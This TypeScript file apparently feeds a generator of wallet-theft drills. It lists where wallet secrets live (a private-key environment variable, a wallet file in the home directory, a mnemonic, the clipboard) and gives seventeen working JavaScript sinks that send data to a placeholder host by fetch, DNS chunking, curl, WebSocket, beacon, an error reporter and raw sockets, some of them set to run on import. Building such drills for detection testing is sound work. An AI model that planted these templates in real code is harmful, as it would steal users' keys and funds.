import { JAVASCRIPT_ENCODERS } from '../encoders.ts';
import type { Parts } from './compose.ts';
import type { Sink, Source } from './composition.ts';
import { JAVASCRIPT_PATHS } from './javascriptPaths.ts';

const SOURCES: readonly Source[] = [
  { name: 'constructor', spot: 'src/account.js:constructor', secret: 'bytes', harmless: 'this.publicKey' },
  { name: 'mnemonic', spot: 'src/account.js:phrase', secret: 'phrase', harmless: "String(phrase.split(' ').length)" },
  { name: 'keystore', spot: 'src/keystore.js:keystore', secret: 'opened', harmless: 'String(opened.length)' },
  {
    name: 'environment',
    spot: 'src/environment.js:environment',
    secret: 'value',
    harmless: 'process.version',
    atImport: { value: "process.env.WALLET_PRIVATE_KEY ?? ''", imports: '' },
  },
  {
    name: 'wallet file',
    spot: 'src/files.js:file',
    secret: 'content',
    harmless: 'String(content.length)',
    atImport: {
      value: "readFileSync(join(homedir(), '.config', 'acme-wallet', 'id.json'), 'utf8')",
      imports:
        "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\n",
    },
  },
  { name: 'browser', spot: 'src/browser.js:browser', secret: 'stored', harmless: 'String(stored.length)' },
  { name: 'clipboard', spot: 'src/paste.js:clipboard', secret: 'pasted', harmless: 'String(pasted.length)' },
  { name: 'use', spot: 'src/signing.js:use', secret: 'b', harmless: 'c' },
];

/** `@host` and `@route` stand for those of the disguise. */
const SINKS: readonly Sink[] = [
  {
    name: 'fetch body',
    text: `export function send(text) {\n  fetch('https://@host/@route', { method: 'POST', body: JSON.stringify({ text }) }).catch(() => undefined);\n}\n`,
  },
  {
    name: 'fetch header',
    text: `export async function send(text) {\n  const headers = new Headers({ 'x-request-id': text });\n  await fetch('https://@host/@route', { headers }).catch(() => undefined);\n}\n`,
  },
  {
    name: 'fetch query',
    text: `export function send(text) {\n  const url = new URL('https://@host/@route');\n  url.searchParams.set('v', text);\n  fetch(url).catch(() => undefined);\n}\n`,
  },
  {
    name: 'https request',
    text: `import https from 'node:https';\n\nexport function send(text) {\n  const request = https.request({ host: '@host', path: '/@route', method: 'POST' });\n  request.on('error', () => undefined);\n  request.write(text);\n  request.end();\n}\n`,
  },
  {
    name: 'https get',
    text: `import { get } from 'node:https';\n\nexport function send(text) {\n  get(\`https://@host/@route?v=\${text}\`, (response) => response.resume()).on('error', () => undefined);\n}\n`,
  },
  {
    name: 'xhr',
    text: `export function send(text) {\n  const request = new XMLHttpRequest();\n  request.open('POST', 'https://@host/@route');\n  request.setRequestHeader('x-trace', text);\n  request.send();\n}\n`,
  },
  {
    name: 'web socket',
    text: `export function send(text) {\n  const socket = new WebSocket('wss://@host/@route');\n  socket.addEventListener('open', () => socket.send(text));\n}\n`,
  },
  {
    name: 'ws library',
    text: `import WebSocket from 'ws';\n\nexport function send(text) {\n  const socket = new WebSocket('wss://@host/@route');\n  socket.on('open', () => socket.send(text));\n  socket.on('error', () => undefined);\n}\n`,
  },
  { name: 'beacon', text: `export function send(text) {\n  navigator.sendBeacon('https://@host/@route', text);\n}\n` },
  {
    name: 'image',
    text: `export function send(text) {\n  const image = new Image();\n  image.src = 'https://@host/@route?p=' + encodeURIComponent(text);\n}\n`,
  },
  {
    name: 'dns',
    text: `import dns from 'node:dns';\n\nexport function send(text) {\n  for (const label of text.match(/.{1,60}/g) ?? []) dns.resolve4(\`\${label}.@host\`, () => undefined);\n}\n`,
  },
  {
    name: 'child process',
    text: `import { execFile } from 'node:child_process';\n\nexport function send(text) {\n  execFile('curl', ['-s', '-d', text, 'https://@host/@route'], () => undefined);\n}\n`,
  },
  {
    name: 'file for later',
    text: `import { appendFileSync, readFileSync } from 'node:fs';\nimport { tmpdir } from 'node:os';\nimport { join } from 'node:path';\n\nconst spool = join(tmpdir(), '.portcullis-drill-spool');\n\nexport function send(text) {\n  appendFileSync(spool, text + '\\n');\n}\n\nexport function ship() {\n  return fetch('https://@host/@route', { method: 'PUT', body: readFileSync(spool) }).catch(() => undefined);\n}\n`,
  },
  {
    name: 'error reporter',
    text: `import * as Sentry from '@sentry/node';\n\nSentry.init({ dsn: 'https://0@@host/1' });\n\nexport function send(text) {\n  Sentry.captureException(new Error('unexpected state'), { extra: { text } });\n}\n`,
  },
  {
    name: 'axios',
    text: `import axios from 'axios';\n\nconst client = axios.create({ baseURL: 'https://@host' });\n\nexport function send(text) {\n  client.post('/@route', { text }).catch(() => undefined);\n}\n`,
  },
  {
    name: 'socket',
    text: `import net from 'node:net';\n\nexport function send(text) {\n  const socket = net.connect(443, '@host', () => socket.end(text));\n  socket.on('error', () => undefined);\n}\n`,
  },
  {
    name: 'datagram',
    text: `import { createSocket } from 'node:dgram';\n\nexport function send(text) {\n  const socket = createSocket('udp4');\n  socket.send(Buffer.from(text), 53, '@host', () => socket.close());\n}\n`,
  },
];

export const JAVASCRIPT_PARTS: Parts = {
  sources: SOURCES,
  paths: JAVASCRIPT_PATHS,
  encoders: [{ name: 'none', expression: '$', imports: [] }, ...JAVASCRIPT_ENCODERS],
  sinks: SINKS,
  triggers: ['at once', 'timer', 'microtask', 'import'],
  harmlessAtImport: 'process.version',
};
